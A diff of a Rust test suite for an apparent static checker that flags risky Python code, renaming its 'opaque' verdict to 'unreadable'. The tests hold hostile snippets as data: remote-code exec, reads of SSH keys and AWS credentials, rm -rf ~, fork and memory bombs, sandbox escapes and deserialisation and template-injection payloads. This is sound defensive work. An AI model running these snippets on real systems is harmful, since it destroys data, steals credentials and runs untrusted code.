@@ -189,27 +189,27 @@ fn the_keyring_and_code_read_from_input_are_followed() {
 }
 
 #[test]
-fn code_that_cannot_be_read_is_opaque_with_the_reason() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     assert_eq!(
-        opaque("import urllib.request as u; exec(u.urlopen('https://x.io/a.py').read())"),
+        unreadable("import urllib.request as u; exec(u.urlopen('https://x.io/a.py').read())"),
         Some("the code runs code it downloaded or decoded")
     );
     assert_eq!(
-        opaque("import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
+        unreadable("import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
         Some("the code runs code it downloaded or decoded")
     );
-    assert!(opaque("import sys; exec(sys.argv[1])").is_some());
-    assert!(opaque("import os\nwhile True: os.fork()").is_some());
-    assert!(opaque("import os\nos.fork()").is_none());
-    assert!(opaque("m = input(); __import__(m).system('x')").is_some());
+    assert!(unreadable("import sys; exec(sys.argv[1])").is_some());
+    assert!(unreadable("import os\nwhile True: os.fork()").is_some());
+    assert!(unreadable("import os\nos.fork()").is_none());
+    assert!(unreadable("m = input(); __import__(m).system('x')").is_some());
     assert!(
-        opaque(
+        unreadable(
             "import codecs, importlib; importlib.import_module(codecs.decode('fuhgvy', 'rot13'))"
         )
         .is_some()
     );
-    assert!(opaque("help(str)").is_some());
+    assert!(unreadable("help(str)").is_some());
     // Any class of the process, and so `Popen`, is reachable from an empty tuple.
     let internals = "the code reaches objects through Python's internals (`__subclasses__`, `__globals__`, frames), where any function can be found";
     for code in [
@@ -217,27 +217,27 @@ fn code_that_cannot_be_read_is_opaque_with_the_reason() {
         "(lambda: 0).__globals__['__builtins__']['exec']('x')",
         "import sys; sys._getframe().f_globals['os'].system('x')",
     ] {
-        assert_eq!(opaque(code), Some(internals), "{code}");
+        assert_eq!(unreadable(code), Some(internals), "{code}");
     }
     assert_eq!(
-        opaque("import code; code.InteractiveConsole().push('import os')"),
+        unreadable("import code; code.InteractiveConsole().push('import os')"),
         Some("the code starts a Python interpreter of its own, which runs any code")
     );
     // The class of a value, and its name, are ordinary.
     assert_eq!(
-        opaque("import json; print(type(json.loads('1')).__name__, (1).__class__.__name__)"),
+        unreadable("import json; print(type(json.loads('1')).__name__, (1).__class__.__name__)"),
         None
     );
     assert_eq!(
         read(Lang::Python, "import os\nprint(x")
-            .opaque
+            .unreadable
             .map(|u| (u.reason, u.line)),
         Some(("the python code has a syntax error", 2))
     );
 }
 
 #[test]
-fn functions_with_effects_passed_as_values_are_opaque() {
+fn functions_with_effects_passed_as_values_are_unreadable() {
     let passed = "the code passes a function that runs commands or changes files as a value, to be called where it cannot be followed";
     // Mapped over a list the reader knows, it is called on each item.
     assert_eq!(
@@ -252,7 +252,7 @@ fn functions_with_effects_passed_as_values_are_opaque() {
         "import os; f = [os.system][0]; f('reboot')",
     ] {
         let reading = read(Lang::Python, code);
-        assert_eq!(reading.opaque.map(|u| u.reason), Some(passed), "{code}");
+        assert_eq!(reading.unreadable.map(|u| u.reason), Some(passed), "{code}");
     }
     // Values that are not such functions, a keyword's name, and a function bound to a
     // name and called through it are read as before.
@@ -486,7 +486,7 @@ fn servers_and_name_lookups_of_the_standard_library_reach_the_network() {
         [
             "curl dns://*",
             "cat /root/.aws/credentials",
-            "opaque: the code looks up a host name it builds at run time (what it holds is sent in the name) (line 1)"
+            "unreadable: the code looks up a host name it builds at run time (what it holds is sent in the name) (line 1)"
         ]
     );
     assert_eq!(
@@ -531,11 +531,11 @@ fn library_objects_with_effects_are_followed() {
         effects("import glob; print(open(glob.glob('/root/.ssh/id_*')[0]).read())"),
         ["cat /root/.ssh/id_*"]
     );
-    let opaque = |code: &str| read(Lang::Python, code).opaque.is_some();
-    assert!(opaque(
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.is_some();
+    assert!(unreadable(
         "import operator, os; operator.methodcaller('system', 'id')(os)"
     ));
-    assert!(opaque(
+    assert!(unreadable(
         "import os\ndef again():\n    os.fork()\nos.register_at_fork(after_in_child=again)\nos.fork()"
     ));
     assert_eq!(
@@ -606,14 +606,17 @@ fn long_code_is_read_whole_unless_it_costs_more_than_the_parse_work() {
         Some("rm -r -f ~"),
         "{found:?}"
     );
-    assert!(!found.iter().any(|f| f.starts_with("opaque")), "{found:?}");
+    assert!(
+        !found.iter().any(|f| f.starts_with("unreadable")),
+        "{found:?}"
+    );
     // Code as dense as code gets, to the same length, needs more parse work than a line
-    // has: it is opaque, not slow.
+    // has: it is unreadable, not slow.
     let dense = "import os\n".to_owned() + &"f(g(h([{'a': (1, [2, {3: 4}])}])))\n".repeat(1_800);
     assert!(dense.len() > 60 * 1024);
     let reading = read(Lang::Python, &dense);
     assert_eq!(
-        reading.opaque.map(|u| u.reason),
+        reading.unreadable.map(|u| u.reason),
         Some("the code is too complex to read in time")
     );
 }
@@ -627,28 +630,28 @@ fn the_running_interpreter_is_python3() {
 }
 
 #[test]
-fn programs_started_in_a_loop_that_never_ends_are_opaque() {
+fn programs_started_in_a_loop_that_never_ends_are_unreadable() {
     for code in [
         "import subprocess\nwhile 1: subprocess.Popen(['sleep', '9'])",
         "import os\nwhile True: os.system('sleep 9 &')",
         "f = open('/tmp/fill', 'wb')\nwhile True: f.write(b'0' * 4096)",
     ] {
-        assert!(read(Lang::Python, code).opaque.is_some(), "{code}");
+        assert!(read(Lang::Python, code).unreadable.is_some(), "{code}");
     }
     let retry = "import subprocess, time\nwhile True:\n    if subprocess.run(['git', 'fetch']).returncode == 0: break\n    time.sleep(1)";
-    assert_eq!(read(Lang::Python, retry).opaque, None);
+    assert_eq!(read(Lang::Python, retry).unreadable, None);
 }
 
 #[test]
-fn a_path_decoded_at_run_time_is_opaque() {
+fn a_path_decoded_at_run_time_is_unreadable() {
     let code = "p = bytes.fromhex('2f6574632f736861646f77').decode(); print(open(p).read())";
     assert_eq!(
-        read(Lang::Python, code).opaque.map(|u| u.reason),
+        read(Lang::Python, code).unreadable.map(|u| u.reason),
         Some("the code acts on a path it decoded or downloaded at run time")
     );
-    // The next page of an API, from its response, is fetched: not opaque for that.
+    // The next page of an API, from its response, is fetched: not unreadable for that.
     let pages = "import requests; r = requests.get('https://api.example.com/x'); requests.get(r.json()['next'])";
-    assert_eq!(read(Lang::Python, pages).opaque, None);
+    assert_eq!(read(Lang::Python, pages).unreadable, None);
 }
 
 #[test]
@@ -677,7 +680,7 @@ fn directories_and_log_files_made_are_read_as_mkdir_and_appends() {
     );
     // Each time round a loop that never ends, a directory deeper: an inode bomb.
     let deeper = "import os\nos.chdir('/root')\nwhile True:\n    os.mkdir('d')\n    os.chdir('d')";
-    assert!(read(Lang::Python, deeper).opaque.is_some());
+    assert!(read(Lang::Python, deeper).unreadable.is_some());
 }
 
 #[test]
@@ -688,22 +691,22 @@ fn a_comprehension_over_an_endless_iterator_is_a_memory_bomb() {
         "xs = [0 for _ in iter(int, 1)]",
     ] {
         assert_eq!(
-            read(Lang::Python, code).opaque.map(|u| u.reason),
+            read(Lang::Python, code).unreadable.map(|u| u.reason),
             Some("the code grows what it holds in a loop that never ends (a memory bomb)"),
             "{code}"
         );
     }
     let bounded = "import itertools; print(list(itertools.islice(itertools.count(), 5)))";
-    assert_eq!(read(Lang::Python, bounded).opaque, None);
+    assert_eq!(read(Lang::Python, bounded).unreadable, None);
 }
 
 #[test]
-fn a_name_looked_up_at_run_time_in_a_module_that_only_computes_is_not_opaque() {
+fn a_name_looked_up_at_run_time_in_a_module_that_only_computes_is_not_unreadable() {
     let code =
         "import hashlib, sys; algo = sys.argv[1]; print(getattr(hashlib, algo)(b'x').hexdigest())";
-    assert_eq!(read(Lang::Python, code).opaque, None);
+    assert_eq!(read(Lang::Python, code).unreadable, None);
     let code = "import os, sys; getattr(os, sys.argv[1])('x')";
-    assert!(read(Lang::Python, code).opaque.is_some());
+    assert!(read(Lang::Python, code).unreadable.is_some());
 }
 
 #[test]
@@ -777,7 +780,7 @@ fn a_partial_function_is_its_function_with_its_arguments_first() {
     );
     // Passed on as a value, it is called where the reader does not follow.
     let passed = "import functools, os\nrun = functools.partial(os.system)\nlist(map(run, ['ls']))";
-    assert!(read(Lang::Python, passed).opaque.is_some());
+    assert!(read(Lang::Python, passed).unreadable.is_some());
 }
 
 #[test]
@@ -928,7 +931,7 @@ fn a_file_opened_to_write_and_never_written_is_emptied() {
 
 #[test]
 fn library_calls_that_run_resolve_or_send() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque;
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable;
     for (code, want) in [
         (
             "import logging\nimport logging.handlers\nlogging.handlers.HTTPHandler('h.example', '/x')",
@@ -972,14 +975,14 @@ fn library_calls_that_run_resolve_or_send() {
         "import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': {'f': {'()': 'os.system', 'command': 'ls'}}})",
         "import ctypes; ctypes.CFUNCTYPE(None)(0)()",
     ] {
-        assert!(opaque(code).is_some(), "{code}");
+        assert!(unreadable(code).is_some(), "{code}");
     }
     // Loading data safely, or from the project, builds no code.
     for code in [
         "import yaml, urllib.request as u; yaml.load(u.urlopen('https://x.example/a.yaml'), Loader=yaml.SafeLoader)",
         "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {}})",
     ] {
-        assert!(opaque(code).is_none(), "{code}");
+        assert!(unreadable(code).is_none(), "{code}");
     }
 }
 
@@ -1017,7 +1020,7 @@ fn functions_called_by_a_library_and_files_run_by_exec() {
     ] {
         assert_eq!(effects(code), want, "{code}");
     }
-    let opaque = |code: &str| read(Lang::Python, code).opaque;
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable;
     assert_eq!(
         effects("import os; list(map(os.system, input().split()))"),
         ["sh -c ?"]
@@ -1026,13 +1029,13 @@ fn functions_called_by_a_library_and_files_run_by_exec() {
         "import types; types.FunctionType(compile(input(), 'x', 'exec'), {})()",
         "exec(compile(input(), 'x', 'exec'))",
     ] {
-        assert!(opaque(code).is_some(), "{code}");
+        assert!(unreadable(code).is_some(), "{code}");
     }
 }
 
 #[test]
 fn values_too_large_for_memory_are_memory_bombs() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     let bomb = Some("the code builds a value too large for memory (a memory bomb)");
     for code in [
         "n = 10 ** 10 ** 11; print(n % 7)",
@@ -1043,14 +1046,14 @@ fn values_too_large_for_memory_are_memory_bombs() {
         "x = open('/dev/zero', 'rb').read()",
         "from pathlib import Path; x = Path('/dev/urandom').read_bytes()",
     ] {
-        assert_eq!(opaque(code), bomb, "{code}");
+        assert_eq!(unreadable(code), bomb, "{code}");
     }
-    assert_eq!(opaque("x = open('/dev/urandom', 'rb').read(16)"), None);
+    assert_eq!(unreadable("x = open('/dev/urandom', 'rb').read(16)"), None);
     for code in [
         "print(2 ** 64, 10 ** 6, 'x' * 80, [0] * 1024, bytearray(1 << 20))",
         "import mmap; m = mmap.mmap(f.fileno(), 1 << 40)",
     ] {
-        assert_eq!(opaque(code), None, "{code}");
+        assert_eq!(unreadable(code), None, "{code}");
     }
 }
 
@@ -1072,12 +1075,12 @@ fn a_path_renamed_stays_in_its_directory() {
 fn a_fork_in_a_loop_of_a_few_rounds_is_not_a_fork_bomb() {
     let shards = "import os\nfor i in range(4):\n    if os.fork() == 0:\n        os.execvp('pytest', ['pytest', 'tests'])\n";
     assert!(
-        !effects(shards).iter().any(|e| e.starts_with("opaque")),
+        !effects(shards).iter().any(|e| e.starts_with("unreadable")),
         "{:?}",
         effects(shards)
     );
     let listed = shards.replace("range(4)", "('a', 'b')");
-    assert!(!effects(&listed).iter().any(|e| e.starts_with("opaque")));
+    assert!(!effects(&listed).iter().any(|e| e.starts_with("unreadable")));
     for bombs in [
         shards.replace("range(4)", "range(64)"),
         shards.replace("range(4)", "range(n)"),
@@ -1092,7 +1095,7 @@ fn a_fork_in_a_loop_of_a_few_rounds_is_not_a_fork_bomb() {
         let read = effects(&bombs);
         assert!(
             read.iter()
-                .any(|e| e.starts_with("opaque: the code forks in a loop")),
+                .any(|e| e.starts_with("unreadable: the code forks in a loop")),
             "{bombs}: {read:?}"
         );
     }
@@ -1135,7 +1138,7 @@ fn a_thread_or_process_target_is_called_with_its_args() {
             Lang::Python,
             "import shutil, threading\nthreading.Thread(target=shutil.rmtree, args=dirs).start()"
         )
-        .opaque
+        .unreadable
         .map(|u| u.reason),
         Some(passed)
     );
@@ -1189,7 +1192,7 @@ fn library_calls_that_write_run_signal_or_evaluate_are_read() {
         "import ctypes; ctypes.pythonapi.PyRun_SimpleString(b'x')",
     );
     assert_eq!(
-        native.opaque.map(|u| u.reason),
+        native.unreadable.map(|u| u.reason),
         Some("the code calls native code directly")
     );
     // A profiler's own use runs nothing.
@@ -1218,13 +1221,13 @@ fn library_calls_that_hand_a_string_to_the_shell_run_it() {
         "import webbrowser; webbrowser.get('rm -rf %s').open('~')",
         "import webbrowser as w; w.register(\"x\", None, w.GenericBrowser(\"rm -rf %s\"))",
     ] {
-        assert!(read(Lang::Python, code).opaque.is_some(), "{code}");
+        assert!(read(Lang::Python, code).unreadable.is_some(), "{code}");
     }
     for code in [
         "import webbrowser; print(type(webbrowser.get()).__name__)",
         "import webbrowser; webbrowser.get('firefox')",
     ] {
-        assert!(read(Lang::Python, code).opaque.is_none(), "{code}");
+        assert!(read(Lang::Python, code).unreadable.is_none(), "{code}");
     }
 }
 
@@ -1371,7 +1374,7 @@ fn library_readers_writers_and_loaders_are_followed() {
         "import _xxsubinterpreters as i; i.run_string(i.create(), 'print(1)')",
     ] {
         assert!(
-            effects(code).iter().any(|e| e.starts_with("opaque")),
+            effects(code).iter().any(|e| e.starts_with("unreadable")),
             "{code}: {:?}",
             effects(code)
         );
@@ -1427,27 +1430,29 @@ fn writers_readers_and_loaders_of_files_they_are_given() {
     );
     // numpy unpickles only when asked to; torch unless told not to.
     assert!(
-        effects("import numpy as np; np.load('x.npy', allow_pickle=True)")[0].starts_with("opaque")
+        effects("import numpy as np; np.load('x.npy', allow_pickle=True)")[0]
+            .starts_with("unreadable")
     );
     assert!(effects("import numpy as np; print(np.load('x.npy').shape)").is_empty());
     assert!(
-        effects("import torch; torch.load('m.pt', weights_only=False)")[0].starts_with("opaque")
+        effects("import torch; torch.load('m.pt', weights_only=False)")[0]
+            .starts_with("unreadable")
     );
     assert!(effects("import torch; torch.load('m.pt', weights_only=True)").is_empty());
 }
 
 #[test]
 fn loaders_and_parsers_that_run_code() {
-    let opaque = |code: &str| {
+    let unreadable = |code: &str| {
         effects(code)
             .first()
-            .is_some_and(|e| e.starts_with("opaque"))
+            .is_some_and(|e| e.starts_with("unreadable"))
     };
     // Data that names a callable for the loader, in PyYAML's tags or jsonpickle's keys.
-    assert!(opaque(
+    assert!(unreadable(
         r#"import yaml; yaml.load("!!python/object/apply:os.system ['id']", Loader=yaml.Loader)"#
     ));
-    assert!(opaque(
+    assert!(unreadable(
         r#"import jsonpickle; jsonpickle.decode('{"py/reduce": [{"py/function": "os.system"}]}')"#
     ));
     assert!(effects(r#"import yaml; yaml.load("a: 1", Loader=yaml.Loader)"#).is_empty());
@@ -1462,10 +1467,10 @@ fn loaders_and_parsers_that_run_code() {
     );
     assert!(effects("import sympy; print(sympy.sympify('x**2 + 1'))").is_empty());
     // Templates with code in them, or reaching it through `__` attributes.
-    assert!(opaque(
+    assert!(unreadable(
         "from mako.template import Template; Template('<% import os %>').render()"
     ));
-    assert!(opaque(
+    assert!(unreadable(
         "import jinja2; jinja2.Template('{{ cycler.__init__.__globals__.os }}').render()"
     ));
     assert!(effects("import jinja2; jinja2.Template('Hi {{ name }}').render(name='x')").is_empty());
@@ -1474,7 +1479,7 @@ fn loaders_and_parsers_that_run_code() {
         effects(
             "from transformers import AutoModel; AutoModel.from_pretrained('x/y', trust_remote_code=True)"
         ),
-        ["opaque: the code runs code it downloaded or decoded (line 1)"]
+        ["unreadable: the code runs code it downloaded or decoded (line 1)"]
     );
     assert!(effects("import torch; torch.hub.load('a/b', 'm', trust_repo=False)").is_empty());
 }
@@ -1488,7 +1493,7 @@ fn private_helpers_of_modules_with_effects_are_not_read() {
         "import _posixsubprocess; _posixsubprocess.fork_exec()",
     ] {
         assert!(
-            effects(code).iter().any(|e| e.starts_with("opaque")),
+            effects(code).iter().any(|e| e.starts_with("unreadable")),
             "{code}: {:?}",
             effects(code)
         );
@@ -1565,13 +1570,13 @@ fn unicode_forms_are_applied_to_known_text() {
 }
 
 #[test]
-fn a_module_loaded_by_a_loader_object_and_run_is_opaque() {
+fn a_module_loaded_by_a_loader_object_and_run_is_unreadable() {
     for code in [
         "import importlib.machinery as m; l = m.SourcelessFileLoader('x', '/tmp/x.pyc'); l.load_module()",
         "import importlib.machinery as m, importlib.util as u; l = m.SourceFileLoader('x', '/tmp/x.py'); s = u.spec_from_loader('x', l); l.exec_module(u.module_from_spec(s))",
     ] {
         assert!(
-            effects(code).iter().any(|e| e.starts_with("opaque")),
+            effects(code).iter().any(|e| e.starts_with("unreadable")),
             "{code}: {:?}",
             effects(code)
         );
@@ -1705,17 +1710,17 @@ fn a_loop_unpacking_literal_tuples_binds_each_tuple_s_parts_together() {
 
 #[test]
 fn timeit_reads_a_string_statement_or_setup_as_code_and_calls_a_callable() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     assert_eq!(
-        opaque("import timeit, json; timeit.timeit(lambda: json.loads('[1]'), number=10)"),
+        unreadable("import timeit, json; timeit.timeit(lambda: json.loads('[1]'), number=10)"),
         None
     );
     assert_eq!(
-        opaque("import timeit\ndef f(): pass\ntimeit.timeit(f, number=10)"),
+        unreadable("import timeit\ndef f(): pass\ntimeit.timeit(f, number=10)"),
         None
     );
     // The same name bound to a string as well is that string, not known.
-    assert!(opaque("import timeit\ndef f(): pass\nf = input()\ntimeit.timeit(f)").is_some());
+    assert!(unreadable("import timeit\ndef f(): pass\nf = input()\ntimeit.timeit(f)").is_some());
     assert_eq!(
         effects("import timeit; timeit.timeit('pass', setup='import os; os.system(\"rm -rf ~\")')"),
         ["sh -c rm -rf ~"]
@@ -1723,7 +1728,7 @@ fn timeit_reads_a_string_statement_or_setup_as_code_and_calls_a_callable() {
 }
 
 #[test]
-fn base64_of_a_constant_is_its_text_but_decoded_code_stays_opaque() {
+fn base64_of_a_constant_is_its_text_but_decoded_code_stays_unreadable() {
     assert_eq!(
         effects(
             "import base64, urllib.request\nu = base64.b64decode('aHR0cDovLzEyNy4wLjAuMToxODc5MC92MS9hcHByb3ZhbHM=').decode()\nurllib.request.urlopen(u)"
@@ -1736,15 +1741,15 @@ fn base64_of_a_constant_is_its_text_but_decoded_code_stays_opaque() {
         ),
         ["cat ~/.ssh/id_rsa"]
     );
-    // Run as a command, what was decoded is not known: the shell reader makes it opaque.
+    // Run as a command, what was decoded is not known: the shell reader makes it unreadable.
     assert_eq!(
         effects("import base64, os; os.system(base64.b64decode('bHM=').decode())"),
         ["sh -c <fetched>"]
     );
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     // Not base64 of UTF-8 text: decoded, not known.
     assert_eq!(
-        opaque("import base64; open(base64.b64decode('/w==')).read()"),
+        unreadable("import base64; open(base64.b64decode('/w==')).read()"),
         Some("the code acts on a path it decoded or downloaded at run time")
     );
 }
@@ -1921,9 +1926,9 @@ fn a_loop_over_a_name_bound_to_a_literal_that_stays_as_written_takes_each_item()
 
 #[test]
 fn a_computed_attribute_only_compared_or_printed_is_not_a_call() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     let settings = "import importlib\ndev = importlib.import_module('app.settings.dev')\nfor k in dir(dev):\n    a, b = getattr(dev, k, None), 1\n    if a != b:\n        print(f'{k}: {a!r}', len(str(a)))";
-    assert_eq!(opaque(settings), None);
+    assert_eq!(unreadable(settings), None);
     // Called, handed on, or printed by a print of the code's own, it may run anything.
     for used in [
         "a(1)",
@@ -1933,7 +1938,7 @@ fn a_computed_attribute_only_compared_or_printed_is_not_a_call() {
     ] {
         let code = format!("import os\na = getattr(os, input())\n{used}");
         assert_eq!(
-            opaque(&code),
+            unreadable(&code),
             Some("the code calls a function whose name is computed at run time"),
             "{code}"
         );
@@ -1986,15 +1991,15 @@ fn a_parameter_the_body_binds_again_or_changes_is_not_the_argument() {
 
 #[test]
 fn past_sixteen_computed_lookups_only_looked_at_one_counts_as_a_call() {
-    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Python, code).unreadable.map(|u| u.reason);
     let lookups = |n: usize| {
         (0..n)
             .map(|k| format!("a{k} = getattr(os, input())\nprint(a{k})\n"))
             .collect::<String>()
     };
-    assert_eq!(opaque(&format!("import os\n{}", lookups(16))), None);
+    assert_eq!(unreadable(&format!("import os\n{}", lookups(16))), None);
     assert_eq!(
-        opaque(&format!("import os\n{}", lookups(17))),
+        unreadable(&format!("import os\n{}", lookups(17))),
         Some("the code calls a function whose name is computed at run time")
     );
 }
